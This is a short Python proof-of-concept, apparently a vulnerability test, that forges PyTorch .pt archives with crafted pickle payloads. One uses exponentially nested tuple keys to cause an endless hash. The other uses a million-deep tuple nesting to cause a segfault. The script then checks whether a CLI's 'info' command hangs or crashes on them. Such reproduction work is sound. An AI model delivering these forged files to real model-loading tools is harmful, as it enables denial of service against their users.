"""A .pt of 1 KB with nested tuples as key: endless hash (not even Ctrl-C helps), or SIGSEGV."""

import zipfile

import torch
from common import cli, verdict

torch.save({"net_model": {}}, "b.pt")
src = zipfile.ZipFile("b.pt")


def forge(name, payload):
    with zipfile.ZipFile(name, "w") as b:
        for i in src.infolist():
            b.writestr(i.filename, payload if i.filename.endswith("data.pkl") else src.read(i))


forge(
    "exp.pt",
    b"\x80\x02}X\x01\x00\x00\x00aq\x00"
    + b"".join(b"h" + bytes([i]) + b"\x86q" + bytes([i + 1]) for i in range(64))
    + b"Ns.",
)
forge("deep.pt", b"\x80\x02}N" + b"\x85" * 1_000_000 + b"Ns.")
rc1, _, _ = cli("info", "exp.pt", timeout=25)
rc2, _, _ = cli("info", "deep.pt", timeout=25)
verdict(rc1 is None or (rc2 or 0) < 0, f"exponential key: {'hangs' if rc1 is None else rc1}; deep key: rc {rc2}")
